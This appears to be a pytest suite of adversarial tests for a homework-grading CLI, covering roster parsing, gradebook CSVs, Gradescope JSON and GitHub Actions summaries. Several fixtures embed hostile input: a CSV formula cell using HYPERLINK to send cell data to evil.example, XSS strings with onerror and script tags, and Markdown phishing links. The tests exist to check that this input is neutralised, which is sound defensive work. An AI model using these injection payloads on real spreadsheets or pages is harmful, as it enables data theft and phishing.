"""An independent attacker's pass over running a class (roster, feedback levels, gradebooks,
Gradescope): each test states what the contract (sections 5, 6 and 8) requires, and each failed on
the code the pass was made on: an output over an input, a carriage return or Markdown of a
student's, a non-UTF-8 folder, --roster without roster_id:, a wide roster, Canvas's test student,
a header read as a student, an unreadable value unannotated, a quantity answered twice, and more
than right-or-not at feedback: verdict."""
import csv
import io
import json
import os
import re
import resource
import subprocess
import sys

import pytest
from conftest import HW3_PERSONAL, SPECS, invoke

PERSONAL = HW3_PERSONAL + """roster_id: username
repository_prefix: hw3-
feedback: diagnosis
questions:
  - {quantity: a12, points: 1}
  - {quantity: dL/dz21, points: 1}
  - {quantity: dL/dw212, points: 2}
  - {quantity: w212_new, points: 1}
"""
ROSTER = "First Name,Last Name,username\nAlice,Lee,alice\nBob,Bo,bob\nCarol,Ng,carol\n"
SHARED = """title: "HW"
spec: net.yaml
questions:
  - {quantity: a12, points: 1}
  - {quantity: dL/dw212, points: 2}
"""


@pytest.fixture
def course(tmp_path):
    (tmp_path / "net.yaml").write_text((SPECS / "padhai-4-4-2.yaml").read_text(encoding="utf-8"), encoding="utf-8")
    (tmp_path / "hw3.yaml").write_text(PERSONAL, encoding="utf-8")
    (tmp_path / "roster.csv").write_text(ROSTER, encoding="utf-8")
    (tmp_path / "hw3-alice").mkdir()
    (tmp_path / "hw3-alice" / "answers.yaml").write_text(
        "answers:\n  a12: 0.4256\n  dL/dz21: 0.0664\n  dL/dw212: -0.0282\n  w212_new: 0.2\n", encoding="utf-8")
    return tmp_path


def shared(tmp_path, roster_text=None):
    (tmp_path / "net.yaml").write_text((SPECS / "padhai-4-4-2.yaml").read_text(encoding="utf-8"), encoding="utf-8")
    text = SHARED
    if roster_text is not None:
        (tmp_path / "roster.csv").write_text(roster_text, encoding="utf-8", newline="")
        text += "roster: roster.csv\n"
    (tmp_path / "hw.yaml").write_text(text, encoding="utf-8")
    return tmp_path / "hw.yaml"


# 1. section 8: an output path that is one of the run's inputs is refused (exit 2), nothing written
@pytest.mark.parametrize("option, target", [
    ("--junit", "hw3-alice/answers.yaml"),      # the student's own submission
    ("--gradebook", "hw3-alice/answers.yaml"),
    ("--gradescope", "hw3-alice/answers.yaml"),
    ("--gradebook", "roster.csv"),              # the class roster (a Canvas export, say)
    ("--junit", "roster.csv"),
    ("--gradebook", "net.yaml"),                # the assignment's spec
    ("--junit", "hw3.yaml"),                    # the assignment itself
])
def test_attack_check_assignment_refuses_an_output_that_is_an_input(course, option, target):
    before = (course / target).read_bytes()
    out = invoke("check", "--assignment", course / "hw3.yaml", course / "hw3-alice" / "answers.yaml",
                 option, course / target)
    assert (course / target).read_bytes() == before, f"{target} was overwritten by {option}"
    assert out.exit_code == 2


def test_attack_plain_check_refuses_junit_over_its_answers_file(tmp_path):
    (tmp_path / "net.yaml").write_text((SPECS / "padhai-4-4-2.yaml").read_text(encoding="utf-8"), encoding="utf-8")
    answers = tmp_path / "a.yaml"
    answers.write_text("spec: net.yaml\nanswers:\n  dL/dw212: -0.13\n", encoding="utf-8")
    before = answers.read_bytes()
    out = invoke("check", answers, "--junit", answers)
    assert answers.read_bytes() == before and out.exit_code == 2


# 2. section 8: a CSV cell holding a line break is quoted and neutralised; no cell may start a formula
def _cells(text):
    return list(csv.reader(io.StringIO(text, newline="")))


def test_attack_canvas_gradebook_cell_with_a_carriage_return_injects_a_formula(tmp_path):
    canvas = ('Student,ID,SIS User ID,SIS Login ID,Section\n    Points Possible,,,,\n'
              '"Lee\r=HYPERLINK(""http://evil.example/?""&A1,""x"")",1001,S1,alice,"A\r+1"\n')
    hw = shared(tmp_path, canvas)
    (tmp_path / "1001").mkdir()
    (tmp_path / "1001" / "answers.yaml").write_text("answers: {a12: 0.5}\n", encoding="utf-8")
    invoke("check", "--assignment", hw, tmp_path / "1001" / "answers.yaml", "--gradebook", tmp_path / "g.csv",
           "--gradebook-format", "canvas")
    rows = _cells((tmp_path / "g.csv").read_bytes().decode("utf-8"))  # raw: a bare CR kept
    assert all(len(row) == 6 for row in rows), rows  # '+1' became a row of its own
    assert not [c for row in rows for c in row if c[:1] in ("=", "+", "-", "@")]
    assert not [c for row in rows for c in row if "\r" in c or "\n" in c and not c.startswith("'")], rows


def test_attack_generic_gradebook_folder_with_a_carriage_return(tmp_path):
    hw = shared(tmp_path)
    folder = tmp_path / "x\r=1+1"
    folder.mkdir()
    (folder / "answers.yaml").write_text("answers: {a12: 0.5}\n", encoding="utf-8")
    invoke("check", "--assignment", hw, folder / "answers.yaml", "--gradebook", tmp_path / "g.csv")
    rows = _cells((tmp_path / "g.csv").read_bytes().decode("utf-8"))  # raw: a bare CR kept
    assert all(len(row) == 6 for row in rows), rows
    assert not [c for row in rows for c in row if c[:1] in ("=", "+", "-", "@")]


# 3. a folder name that is not UTF-8: exit 2, every report file written (never exit 3)
@pytest.mark.slow
def test_attack_gradebook_with_a_non_utf8_folder_name_crashes(tmp_path):
    hw = shared(tmp_path)
    folder = os.path.join(os.fsencode(tmp_path), b"\xff\xfe")
    os.mkdir(folder)
    with open(os.path.join(folder, b"answers.yaml"), "w", encoding="utf-8") as handle:
        handle.write("answers: {a12: 0.5}\n")
    done = subprocess.run([sys.executable, "-m", "backprop_cli", "check", "--assignment", str(hw),
                           os.path.join(folder, b"answers.yaml"), "--gradebook", str(tmp_path / "g.csv"),
                           "--junit", str(tmp_path / "j.xml")], capture_output=True)
    assert done.returncode == 2, done.stderr[-400:]
    assert (tmp_path / "g.csv").exists() and (tmp_path / "j.xml").exists()


# 4. --roster FILE keeps the assignment's roster_id: (the help: "default: the assignment's roster_id:")
def test_attack_roster_option_drops_the_assignments_roster_id(course, tmp_path):
    other = tmp_path / "export.csv"
    other.write_text(ROSTER, encoding="utf-8")
    out = invoke("check", "--assignment", course / "hw3.yaml", "--roster", other,
                 course / "hw3-alice" / "answers.yaml", "--format", "json")
    data = json.loads(out.stdout)
    assert data["not_on_roster"] == [] and [f["student"] for f in data["files"]] == ["alice"]
    invoke("assign", course / "hw3.yaml", "--roster", other, "-o", tmp_path / "handouts")
    assert sorted(p.name for p in (tmp_path / "handouts").iterdir()) == ["alice", "bob", "carol"]


# 5. section 8: no link, image or HTML from a student survives in Gradescope's Markdown or the job summary
def test_attack_gradescope_markdown_keeps_students_links_images_and_html(course):
    (course / "hw3-alice" / "answers.yaml").write_text(
        'student: "<img src=x onerror=alert(1)> [c](https://evil.example/x)"\n'
        'answers:\n  a12: "<script>alert(1)</script>"\n  dL/dz21: "[click](https://evil.example/phish)"\n'
        '  dL/dw212: "![p](https://evil.example/p.png)"\n  "<b>x</b>[a](https://evil.example/)": 1\n',
        encoding="utf-8")
    invoke("check", "--assignment", course / "hw3.yaml", course / "hw3-alice" / "answers.yaml",
           "--gradescope", course / "results.json")
    data = json.loads((course / "results.json").read_text(encoding="utf-8"))
    shown = "\n".join([data["output"]] + [t["output"] for t in data["tests"]])
    # escaped, a student's Markdown is shown as written: no `](` link or image and no tag is left live
    assert not re.search(r"(?<!\\)\]\(", shown) and "<img" not in shown and "<script" not in shown \
        and "<b>" not in shown, shown


def test_attack_step_summary_keeps_a_strangers_markdown_link(course):
    folder = course / "hw3-![x](https:evil.example%2Fp.png) [c](mailto:a@b)"
    folder.mkdir()
    (folder / "answers.yaml").write_text("answers: {a12: 1}\n", encoding="utf-8")
    summary = course / "summary.md"
    invoke("check", "--assignment", course / "hw3.yaml", folder / "answers.yaml",
           env={"GITHUB_ACTIONS": "true", "GITHUB_STEP_SUMMARY": str(summary)})
    text = summary.read_text(encoding="utf-8")
    assert not re.search(r"(?<!\\)\]\(", text), text


# 6. a 1.5 MB roster (a wide header) must not take gigabytes and end in an internal error
@pytest.mark.slow
def test_attack_a_wide_roster_exhausts_memory(tmp_path):
    hw = shared(tmp_path)
    header = "id," + ",".join(f"c{i}" for i in range(200_000))
    (tmp_path / "wide.csv").write_text(header + "\n" + "".join(f"s{i}\n" for i in range(2000)), encoding="utf-8")

    def limit():
        resource.setrlimit(resource.RLIMIT_AS, (2 << 30, 2 << 30))

    done = subprocess.run([sys.executable, "-m", "backprop_cli", "assign", str(hw), "--roster",
                           str(tmp_path / "wide.csv"), "-o", str(tmp_path / "out")],
                          capture_output=True, text=True, preexec_fn=limit, timeout=300)
    assert done.returncode in (0, 2), done.stderr[-300:]


# 7. the documented Canvas set-up (roster_id: SIS Login ID) on a real export, which lists Canvas's
#    Test Student with no SIS Login ID
def test_attack_canvas_export_with_the_test_student_is_refused_whole(tmp_path):
    canvas = ('Student,ID,SIS User ID,SIS Login ID,Section,Homework 1 (123)\n'
              '    Points Possible,,,,,10.00\n"Lee, Alice",1001,S1,alice,Section A,9\n'
              '"Student, Test",1003,,,Section A,\n')
    from backprop_cli.grading.roster import load_roster

    (tmp_path / "canvas.csv").write_text(canvas, encoding="utf-8")
    assert load_roster(str(tmp_path / "canvas.csv"), "SIS Login ID").ids == ["alice"]


# 8. a header such as NetID, uid or github_username is no student
@pytest.mark.parametrize("text", ["NetID,Name\nab12,Alice\n", "uid\nab12\n", "github_username\nab12\n"])
def test_attack_a_header_row_is_read_as_a_student(tmp_path, text):
    from backprop_cli.grading.roster import load_roster

    (tmp_path / "r.csv").write_text(text, encoding="utf-8")
    assert load_roster(str(tmp_path / "r.csv")).ids == ["ab12"]


# 9. GitHub Actions: every answer not right is annotated at its line (an unreadable one too, as plain
#    `check` does)
def test_attack_unreadable_answer_not_annotated_in_assignment_mode(course):
    (course / "hw3-alice" / "answers.yaml").write_text("answers:\n  a12: 0,4256\n", encoding="utf-8")
    out = invoke("check", "--assignment", course / "hw3.yaml", course / "hw3-alice" / "answers.yaml",
                 env={"GITHUB_ACTIONS": "true"})
    assert "::error file=" in out.stderr and "line=2" in out.stderr, out.stderr


# 10. one answer, one verdict: two keys for one quantity are not silently reduced to the last
def test_attack_a_second_key_for_the_same_quantity_silently_replaces_the_first(course):
    (course / "hw3-alice" / "answers.yaml").write_text(
        'answers:\n  a12: 0.4256\n  "a12 ": 0.9\n  w212_new: 0.2282\n  w2_1_2_new: 0.9\n', encoding="utf-8")
    out = invoke("check", "--assignment", course / "hw3.yaml", course / "hw3-alice" / "answers.yaml",
                 "--format", "json")
    f = json.loads(out.stdout)["files"][0]
    assert f["not_graded"] or f["notes"], f  # the other a12 and w212_new are said somewhere


# 11. feedback: verdict shows right or not and points, not which answers were carried forward
def test_attack_verdict_level_summary_counts_carried_forward(course):
    (course / "hw3-alice" / "answers.yaml").write_text(
        "answers:\n  a12: 0.4256\n  dL/dz21: 0.0664\n  dL/dw212: 0.0282\n  w212_new: 0.1718\n", encoding="utf-8")
    summary = course / "summary.md"
    invoke("check", "--assignment", course / "hw3.yaml", course / "hw3-alice" / "answers.yaml", "--feedback",
           "verdict", env={"GITHUB_ACTIONS": "true", "GITHUB_STEP_SUMMARY": str(summary)})
    assert "carried forward" not in summary.read_text(encoding="utf-8")


# 12. feedback: verdict hides what a value should be, not that it could not be read, nor how to write it
def test_an_unreadable_value_is_said_so_at_verdict_level_in_every_report(course):
    (course / "hw3-alice" / "answers.yaml").write_text(
        "answers:\n  a12: 0,4256\n  dL/dz21: 0.0664\n  dL/dw212: -0.0282\n  w212_new: 0.2\n", encoding="utf-8")
    summary = course / "summary.md"
    out = invoke("check", "--assignment", course / "hw3.yaml", course / "hw3-alice" / "answers.yaml", "--feedback",
                 "verdict", "--gradescope", course / "results.json",
                 env={"GITHUB_ACTIONS": "true", "GITHUB_STEP_SUMMARY": str(summary)})
    assert "a12: unreadable: not a number: '0,4256'; write 0.4256: a point marks decimals" in out.stdout
    assert "::error file=" in out.stderr and "a12: unreadable: not a number" in out.stderr
    tests = json.loads((course / "results.json").read_text(encoding="utf-8"))["tests"]
    assert tests[0]["output"].startswith("Unreadable: not a number: '0,4256'; write 0.4256")
    assert "0.4255" not in out.stdout + tests[0]["output"]  # (padhai's a12 is 0.42555...: nothing of it shown)
